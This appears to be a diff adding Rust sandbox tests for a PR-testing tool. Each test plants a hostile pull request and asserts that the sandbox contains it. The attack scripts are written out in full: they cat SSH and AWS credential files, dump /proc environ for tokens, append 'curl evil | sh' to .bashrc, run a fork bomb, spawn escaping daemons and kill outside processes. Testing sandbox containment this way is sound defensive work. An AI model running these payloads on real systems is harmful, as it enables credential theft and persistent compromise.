@@ -1,0 +1,344 @@
+//! A hostile PR against the sandbox (SPEC §5.6): one PR per attack of the policy table, each
+//! run through `forgeloop test` against the GitHub emulator, in both tiers (the second forced
+//! through the test seam), as root and as an ordinary user. Every outcome is observed from
+//! outside: the planted files, the listeners, the process table. The control tests show the
+//! same observations do catch the attack when the sandbox is off.
+
+mod sandbox_support;
+mod support;
+
+use std::io::Read;
+use std::net::{TcpListener, UdpSocket};
+use std::time::{Duration, Instant};
+
+use sandbox_support::{Lab, Tier, Who};
+
+/// Generates one test per tier and user for an attack: `fn(lab: Lab)`.
+macro_rules! every_way {
+    ($name:ident, $body:expr) => {
+        mod $name {
+            use super::*;
+            #[test]
+            fn namespaces_as_root() {
+                ($body)(Lab::new(Tier::Namespaces, Who::Root));
+            }
+            #[test]
+            fn landlock_as_root() {
+                ($body)(Lab::new(Tier::Landlock, Who::Root));
+            }
+            #[test]
+            fn namespaces_as_user() {
+                ($body)(Lab::new(Tier::Namespaces, Who::User));
+            }
+            #[test]
+            fn landlock_as_user() {
+                ($body)(Lab::new(Tier::Landlock, Who::User));
+            }
+        }
+    };
+}
+
+fn credentials_script(lab: &Lab) -> String {
+    let home = lab.user_home.display();
+    format!(
+        "for f in {home}/.ssh/id_ed25519 {home}/.config/gh/hosts.yml {home}/.aws/credentials {home}/.netrc \
+         \"$HOME/.ssh/id_ed25519\" \"$HOME/.aws/credentials\"; do cat \"$f\"; done\n\
+         ls -la {home} {home}/.ssh \"$HOME\"\nfind / -name id_ed25519 2>/dev/null\nexit 0\n"
+    )
+}
+
+every_way!(credential_files_cannot_be_read, |lab: Lab| {
+    let attack = lab.attack(&credentials_script(&lab));
+    assert!(!attack.everything().contains(&lab.canary), "a credential leaked:\n{}", attack.everything());
+    // The attack did run: its own output is in the log.
+    assert!(attack.log.contains("$ sh attack.sh"), "{}", attack.log);
+});
+
+every_way!(credential_files_cannot_be_read_through_a_committed_symlink, |lab: Lab| {
+    let home = lab.user_home.display().to_string();
+    let ssh = format!("{home}/.ssh/id_ed25519");
+    let aws = format!("{home}/.aws/credentials");
+    let n = lab.hostile_pr(&[("attack.sh", "cat key creds; cat dir/id_ed25519; exit 0\n")], &[
+        ("key", ssh.as_str()),
+        ("creds", aws.as_str()),
+        ("dir", &format!("{home}/.ssh")),
+    ]);
+    let attack = lab.test(n, r#"[["sh", "attack.sh"]]"#);
+    assert!(!attack.everything().contains(&lab.canary), "{}", attack.everything());
+    assert!(attack.log.contains("$ sh attack.sh"));
+});
+
+every_way!(forgeloop_environment_cannot_be_read_through_proc, |lab: Lab| {
+    // forgeloop's environment holds GH_TOKEN and HOSTILE_CANARY; the runner never passes them,
+    // so /proc is the attack: the parent, the parent's parent, and every process visible.
+    let script = "pp=$(cut -d' ' -f4 /proc/$PPID/stat)\n\
+                  cat /proc/$PPID/environ /proc/$pp/environ\n\
+                  for p in /proc/[0-9]*; do cat $p/environ; done | tr '\\0' '\\n'\n\
+                  cat /proc/1/environ\nexit 0\n";
+    let attack = lab.attack(script);
+    let everything = attack.everything();
+    assert!(!everything.contains(&lab.canary), "{everything}");
+    assert!(!everything.contains(&lab.w.token), "{everything}");
+    assert!(!everything.contains("HOSTILE_CANARY"), "{everything}");
+});
+
+every_way!(the_users_bashrc_cannot_be_written, |lab: Lab| {
+    let bashrc = lab.user_home.join(".bashrc");
+    let before = std::fs::read(&bashrc).unwrap();
+    let script = format!(
+        "echo 'curl evil | sh' >> {}\necho 'curl evil | sh' >> \"$HOME/.bashrc\"\necho home=$HOME\nexit 0\n",
+        bashrc.display()
+    );
+    let attack = lab.attack(&script);
+    assert_eq!(std::fs::read(&bashrc).unwrap(), before, "{}", attack.log);
+    // HOME itself is writable, just private: the second append succeeded inside.
+    assert!(attack.log.contains("home="), "{}", attack.log);
+});
+
+every_way!(forgeloop_home_and_mirrors_cannot_be_listed_or_written, |lab: Lab| {
+    let home = lab.forgeloop_home();
+    let script = format!(
+        "H={home}\nls -laR $H\nfind $H\n\
+         echo x > $H/planted; echo x > $H/cycles/planted; echo x > $H/mirrors/planted\n\
+         for d in $H/mirrors/*/*.git; do echo x > $d/planted; echo x > $d/objects/planted; ls $d/refs; done\n\
+         m=$(cat .git/objects/info/alternates); echo x > $m/planted; ls $m/..; exit 0\n",
+        home = home.display()
+    );
+    let attack = lab.attack(&script);
+    assert!(!attack.everything().contains(&lab.canary), "the home was listed:\n{}", attack.log);
+    let planted: Vec<_> = support::snapshot(&home).into_iter().filter(|(p, _)| p.ends_with("planted")).collect();
+    assert!(planted.is_empty(), "files were planted: {planted:?}\n{}", attack.log);
+});
+
+every_way!(the_hosts_loopback_is_unreachable_by_tcp_and_udp, |lab: Lab| {
+    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
+    tcp.set_nonblocking(true).unwrap();
+    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+    udp.set_nonblocking(true).unwrap();
+    let script = format!(
+        "python3 - <<'EOF'\nimport socket\n\
+         try:\n    socket.create_connection(('127.0.0.1', {tcp}), timeout=3).sendall(b'hello')\n    print('tcp connected')\n\
+         except OSError as e:\n    print('tcp refused', e)\n\
+         try:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', ('127.0.0.1', {udp}))\n    print('udp sent')\n\
+         except OSError as e:\n    print('udp refused', e)\nEOF\n",
+        tcp = tcp.local_addr().unwrap().port(),
+        udp = udp.local_addr().unwrap().port()
+    );
+    let attack = lab.attack(&script);
+    assert!(attack.log.contains("tcp refused"), "{}", attack.log);
+    assert!(tcp.accept().is_err(), "the host's listener was reached:\n{}", attack.log);
+    assert!(udp.recv(&mut [0u8; 64]).is_err(), "a datagram reached the host:\n{}", attack.log);
+});
+
+every_way!(nothing_outlives_the_run_not_even_a_setsid_or_double_forked_daemon, |lab: Lab| {
+    let tag = format!("{}-daemon", lab.canary);
+    let script = format!(
+        "setsid python3 -c 'import time; time.sleep(300)' {tag}-setsid >/dev/null 2>&1 < /dev/null &\n\
+         (python3 -c 'import os, time; os.setsid(); time.sleep(300)' {tag}-fork >/dev/null 2>&1 < /dev/null &) &\n\
+         sleep 0.3\necho started\nexit 0\n"
+    );
+    let attack = lab.attack(&script);
+    assert!(attack.log.contains("started"), "{}", attack.log);
+    let deadline = Instant::now() + Duration::from_secs(5);
+    let mut left = Lab::processes_with(&tag);
+    while !left.is_empty() && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(50));
+        left = Lab::processes_with(&tag);
+    }
+    for pid in &left {
+        let _ = std::process::Command::new("kill").args(["-9", &pid.to_string()]).status();
+    }
+    assert!(left.is_empty(), "processes outlived the run: {left:?}");
+});
+
+every_way!(a_fork_bomb_is_bounded_and_dies_with_the_run, |lab: Lab| {
+    lab.config("[runner]\nmax_processes = 48\n");
+    let tag = format!("{}-bomb", lab.canary);
+    let bomb = "import os, sys, time\nn = 0\nwhile n < 5000:\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n    if pid == 0:\n        time.sleep(60)\n        os._exit(0)\n    n += 1\nprint('forked', n, flush=True)\n";
+    let n = lab.hostile_pr(&[("bomb.py", bomb)], &[]);
+    let commands = format!(r#"[["python3", "bomb.py", "{tag}"]]"#);
+    // Watch the machine's process table while it runs.
+    let watching = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
+    let watcher = {
+        let (tag, watching) = (tag.clone(), watching.clone());
+        std::thread::spawn(move || {
+            let mut peak = 0;
+            while watching.load(std::sync::atomic::Ordering::SeqCst) {
+                peak = peak.max(Lab::processes_with(&tag).len());
+                std::thread::sleep(Duration::from_millis(10));
+            }
+            peak
+        })
+    };
+    let attack = lab.test(n, &commands);
+    watching.store(false, std::sync::atomic::Ordering::SeqCst);
+    let peak = watcher.join().unwrap();
+    let forked: usize = attack
+        .log
+        .lines()
+        .find_map(|l| l.strip_prefix("forked "))
+        .and_then(|n| n.trim().parse().ok())
+        .unwrap_or_else(|| panic!("no count in the log:\n{}", attack.log));
+    assert!(forked < 48, "the bomb forked {forked} times:\n{}", attack.log);
+    // The sandbox helper (and, in the first tier, its namespace parent) carry the command line
+    // too: two more than the bound.
+    assert!(peak <= 48 + 2, "{peak} bomb processes were seen at once");
+    assert_eq!(attack.report["environment"]["sandbox"]["max_processes"], 48);
+    assert_ne!(attack.report["environment"]["sandbox"]["process_limit"], "none");
+    std::thread::sleep(Duration::from_millis(200));
+    assert!(Lab::processes_with(&tag).is_empty(), "bomb processes outlived the run");
+});
+
+every_way!(a_process_outside_the_run_cannot_be_signalled, |lab: Lab| {
+    let mut victim = std::process::Command::new("sleep").arg("300").spawn().unwrap();
+    let pid = victim.id();
+    let attack = lab.attack(&format!("kill -9 {pid}; kill -TERM {pid}; kill -STOP {pid}; exit 0\n"));
+    std::thread::sleep(Duration::from_millis(100));
+    let alive = victim.try_wait().unwrap().is_none();
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
+    let _ = victim.kill();
+    let _ = victim.wait();
+    assert!(alive, "the victim was killed:\n{}", attack.log);
+    assert!(!stat.contains(") T "), "the victim was stopped:\n{}", attack.log);
+});
+
+every_way!(an_ordinary_test_still_works, |lab: Lab| {
+    let script = "set -e\necho hi > \"$HOME/note\"; cat \"$HOME/note\"\n\
+                  echo data > out.txt; cat out.txt\nmkdir -p \"$TMPDIR/x\" && echo tmp-ok\n\
+                  python3 -c 'print(\"py\", 6 * 7)'\ngit rev-parse --is-inside-work-tree\n";
+    let n = lab.hostile_pr(&[("ok.sh", script)], &[]);
+    let attack = lab.test(n, r#"[["sh", "ok.sh"]]"#);
+    assert_eq!(attack.report["status"], "TEST_PASSED", "{}", attack.log);
+    for expected in ["hi", "data", "tmp-ok", "py 42", "true"] {
+        assert!(attack.log.lines().any(|l| l == expected), "{expected:?} missing:\n{}", attack.log);
+    }
+});
+
+/// A Rust crate builds with the toolchain bound back read-only (root's own toolchain; the
+/// ordinary user has none of its own here).
+#[test]
+fn cargo_and_rustc_work_from_the_bound_toolchain_in_both_tiers() {
+    for tier in [Tier::Namespaces, Tier::Landlock] {
+        let lab = Lab::new(tier, Who::Root);
+        let n = lab.hostile_pr(
+            &[
+                ("Cargo.toml", "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"),
+                ("main.rs", "fn main() { println!(\"tiny {}\", 6 * 7); }\n"),
+            ],
+            &[],
+        );
+        let commands = r#"[["rustc", "--version"], ["mkdir", "-p", "src"], ["cp", "main.rs", "src/main.rs"], ["cargo", "run", "--offline", "-q"]]"#;
+        let attack = lab.test(n, commands);
+        assert_eq!(attack.report["status"], "TEST_PASSED", "{tier:?}:\n{}", attack.log);
+        assert!(attack.log.lines().any(|l| l == "tiny 42"), "{}", attack.log);
+    }
+}
+
+/// `"network": true` shares the host network (the listener is reached) and changes nothing
+/// else: the credentials stay invisible.
+#[test]
+fn network_true_reaches_the_host_and_still_hides_credentials() {
+    for tier in [Tier::Namespaces, Tier::Landlock] {
+        let lab = Lab::new(tier, Who::Root);
+        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
+        let script = format!(
+            "{}python3 -c \"import socket; socket.create_connection(('127.0.0.1', {})).sendall(b'hello')\"\n",
+            credentials_script(&lab).replace("exit 0\n", ""),
+            tcp.local_addr().unwrap().port()
+        );
+        let n = lab.hostile_pr(&[("attack.sh", &script)], &[]);
+        let attack = lab.test(n, r#"{"commands": [["sh", "attack.sh"]], "network": true}"#);
+        assert_eq!(attack.report["environment"]["sandbox"]["network"], true);
+        tcp.set_nonblocking(false).unwrap();
+        let (mut conn, _) = tcp.accept().unwrap();
+        let mut got = String::new();
+        conn.read_to_string(&mut got).unwrap();
+        assert_eq!(got, "hello", "{}", attack.log);
+        assert!(!attack.everything().contains(&lab.canary), "{tier:?}: {}", attack.everything());
+    }
+}
+
+/// The control: with the person's `sandbox = "off"`, the same observation catches the same
+/// attack, so the tests above can fail; and every output says `unsandboxed`.
+#[test]
+fn with_the_sandbox_off_the_attack_succeeds_and_every_output_says_unsandboxed() {
+    let lab = Lab::new(Tier::Namespaces, Who::Root);
+    lab.config("[runner]\nsandbox = \"off\"\n");
+    let n = lab.hostile_pr(&[("attack.sh", &credentials_script(&lab))], &[]);
+    let file = lab.w.path("commands-off.json");
+    std::fs::write(&file, r#"[["sh", "attack.sh"]]"#).unwrap();
+    let run = lab.run(&["test", "--pr", &format!("acme/widget#{n}"), "--commands-json", file.to_str().unwrap()]);
+    let report = run.json();
+    assert_eq!(report["environment"]["sandbox"]["kind"], "off");
+    assert!(report["comment_markdown"].as_str().unwrap().contains("- Sandbox: unsandboxed"));
+    let log = std::fs::read_to_string(report["log_path"].as_str().unwrap()).unwrap();
+    assert!(log.contains(&format!("{}-ssh", lab.canary)), "the control did not see the leak:\n{log}");
+}
+
+/// A commands file cannot turn the sandbox off or grant a credential store.
+#[test]
+fn a_commands_file_cannot_turn_the_sandbox_off_or_reach_into_the_home() {
+    let lab = Lab::new(Tier::Namespaces, Who::Root);
+    let n = lab.hostile_pr(&[("attack.sh", "exit 0\n")], &[]);
+    for (commands, status) in [
+        (r#"{"commands": [["sh", "attack.sh"]], "sandbox": "off"}"#.to_owned(), "BLOCKED"),
+        (
+            format!(r#"{{"commands": [["sh", "attack.sh"]], "read_paths": ["{}/.ssh"]}}"#, lab.user_home.display()),
+            "SANDBOX_PATH_REFUSED",
+        ),
+        (
+            format!(r#"{{"commands": [["sh", "attack.sh"]], "write_paths": ["{}"]}}"#, lab.forgeloop_home().display()),
+            "SANDBOX_PATH_REFUSED",
+        ),
+    ] {
+        let file = lab.w.path("commands-bad.json");
+        std::fs::write(&file, &commands).unwrap();
+        let run = lab.run(&["test", "--pr", &format!("acme/widget#{n}"), "--commands-json", file.to_str().unwrap()]);
+        assert_eq!(run.code, 2, "{commands}: {}", run.stdout);
+        assert_eq!(run.json()["status"], status, "{}", run.stdout);
+    }
+}
+
+/// With both tiers refused nothing runs: exit 2, SANDBOX_UNAVAILABLE naming causes and fixes,
+/// nothing fetched, and the cycle's state file byte-for-byte unchanged.
+#[test]
+fn with_no_tier_available_forge_pr_refuses_and_changes_nothing() {
+    let mut lab = Lab::new(Tier::Namespaces, Who::Root);
+    lab.set_env("FORGELOOP_SANDBOX_REFUSE", "namespaces,landlock");
+    let n = lab.hostile_pr(&[("attack.sh", "echo ran > /dev/null\n")], &[]);
+    let start = lab.run(&[
+        "forge",
+        "--request",
+        "Add dark mode",
+        "--intent-brief",
+        support::BRIEF,
+        "--webgpt-question",
+        support::QUESTION,
+        "--state",
+        "c.json",
+    ]);
+    assert_eq!(start.code, 0, "{}", start.stdout);
+    let state_path = lab.w.path("c.json");
+    let before = std::fs::read(&state_path).unwrap();
+    let sidecar_before = support::snapshot(&lab.w.path("c.d"));
+    std::fs::write(lab.w.path("commands.json"), r#"[["sh", "attack.sh"]]"#).unwrap();
+    let requests_before = lab.w.emu.requests().len();
+    let run = lab.run(&[
+        "forge",
+        "--pr",
+        &format!("acme/widget#{n}"),
+        "--state",
+        "c.json",
+        "--commands-json",
+        "commands.json",
+    ]);
+    assert_eq!(run.code, 2, "{}", run.stdout);
+    let out = run.json();
+    assert_eq!(out["status"], "SANDBOX_UNAVAILABLE");
+    assert!(out["causes"].as_array().unwrap().len() == 2, "{out}");
+    assert!(out["fixes"].as_array().unwrap().iter().any(|f| f.as_str().unwrap().contains("sandbox = \\\"off\\\"") || f.as_str().unwrap().contains("sandbox = \"off\"")));
+    assert_eq!(std::fs::read(&state_path).unwrap(), before, "the state file changed");
+    assert_eq!(support::snapshot(&lab.w.path("c.d")), sidecar_before, "the journal changed");
+    assert_eq!(lab.w.emu.requests().len(), requests_before, "GitHub was contacted");
+    assert!(!lab.w.path("home/mirrors").exists(), "something was fetched");
+}
